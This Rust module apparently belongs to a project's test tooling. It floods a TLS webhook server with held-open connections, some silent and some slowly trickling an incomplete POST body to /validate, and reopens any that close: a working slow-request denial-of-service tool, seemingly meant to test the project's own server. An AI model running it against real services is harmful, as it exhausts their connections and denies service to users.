//! Holds connections to a webhook until it is stopped: silent ones, and ones that send a request body slowly. Closed connections
//! are reopened.

use std::net::SocketAddr;
use std::path::PathBuf;
use std::rc::Rc;
use std::time::Duration;

use anyhow::{Context as _, Result};
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::LocalSet;
use tokio::time::sleep;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use crate::client;

/// Delay before a connection is reopened.
const RECONNECT: Duration = Duration::from_secs(2);

/// A request whose body is never complete.
const SLOW_HEAD: &[u8] =
    b"POST /validate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 4194304\r\n\r\n";

/// Whom to flood.
#[derive(Clone, Debug, clap::Args)]
pub struct Flood {
    /// Where the server listens
    #[arg(long)]
    address: SocketAddr,
    /// The name that its certificate is for
    #[arg(long)]
    name: String,
    /// PEM file with its CA
    #[arg(long)]
    authority: PathBuf,
    /// Connections on which nothing is sent
    #[arg(long)]
    silent: usize,
    /// Connections on which a body is sent slowly
    #[arg(long)]
    slow: usize,
}

impl Flood {
    /// Runs on this thread alone until the process is killed.
    pub fn run(self) -> Result<()> {
        let limit = getrlimit(Resource::Nofile);
        setrlimit(
            Resource::Nofile,
            Rlimit {
                current: limit.maximum,
                ..limit
            },
        )
        .context("raising the limit of open files")?;
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
        let (silent, slow) = (self.silent, self.slow);
        let attack = Rc::new(Attack {
            address: self.address,
            name: ServerName::try_from(self.name)?,
            tls: client::connector(&self.authority)?,
        });
        LocalSet::new().block_on(&runtime, async move {
            for _ in 0..silent {
                tokio::task::spawn_local(Rc::clone(&attack).repeat(false));
            }
            for _ in 0..slow {
                tokio::task::spawn_local(Rc::clone(&attack).repeat(true));
            }
            std::future::pending().await
        })
    }
}

struct Attack {
    address: SocketAddr,
    name: ServerName<'static>,
    tls: TlsConnector,
}

impl Attack {
    async fn repeat(self: Rc<Self>, is_slow: bool) {
        loop {
            if let Ok(mut stream) = self.connect().await {
                if is_slow {
                    let _ = send_slowly(&mut stream).await;
                } else {
                    let _ = stream.read(&mut [0]).await;
                }
            }
            sleep(RECONNECT).await;
        }
    }

    async fn connect(&self) -> Result<TlsStream<TcpStream>> {
        let stream = TcpStream::connect(self.address).await?;
        Ok(self.tls.connect(self.name.clone(), stream).await?)
    }
}

async fn send_slowly(stream: &mut TlsStream<TcpStream>) -> std::io::Result<()> {
    stream.write_all(SLOW_HEAD).await?;
    stream.write_all(&vec![b' '; 32 * 1024]).await?;
    loop {
        stream.write_all(b" ").await?;
        stream.flush().await?;
        sleep(Duration::from_millis(200)).await;
    }
}
